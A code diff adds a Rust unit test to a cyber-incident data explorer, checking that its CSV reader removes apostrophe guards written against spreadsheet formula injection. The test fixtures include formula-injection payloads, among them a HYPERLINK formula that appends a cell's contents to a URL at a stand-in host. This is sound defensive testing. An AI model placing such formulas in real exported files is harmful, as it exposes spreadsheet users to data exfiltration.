@@ -264,3 +264,18 @@ fn eurepoc_physical_effects_become_the_incidents_effects() {
     // The project's own CSV without an effects column reads without a word about it.
     assert!(Explorer::from_text(include_str!("fixtures/small.csv"), "csv").unwrap().warnings().is_empty());
 }
+
+#[test]
+fn the_page_download_reads_back_with_formula_guards_removed() {
+    // As www/downloads.js writes it: each preamble line one quoted field, and an apostrophe before
+    // text a spreadsheet would run as a formula.
+    let text = "\"# Filters: search=zz,\"\"=HYPERLINK(\"\"http://host/x?\"\"&A9,\"\"Click\"\")\"\"\"\r\n\
+                \"# The lines starting with # are this note\"\r\n\
+                id,name,start,initiator,targets,description,sources\r\n\
+                x-1,\"'=HYPERLINK(\"\"http://host\"\",\"\"go\"\")\",2014-11-24,PRK,USA,\"'-2 then '+3, '@me\",https://example.org/a\r\n";
+    let ex = Explorer::from_text(text, "csv").unwrap();
+    let r = &ex.all()[0];
+    assert_eq!(r.name, "=HYPERLINK(\"http://host\",\"go\")");
+    assert_eq!(r.description, "-2 then '+3, '@me", "only a leading guard is removed");
+    assert!(ex.warnings().is_empty(), "{:?}", ex.warnings());
+}
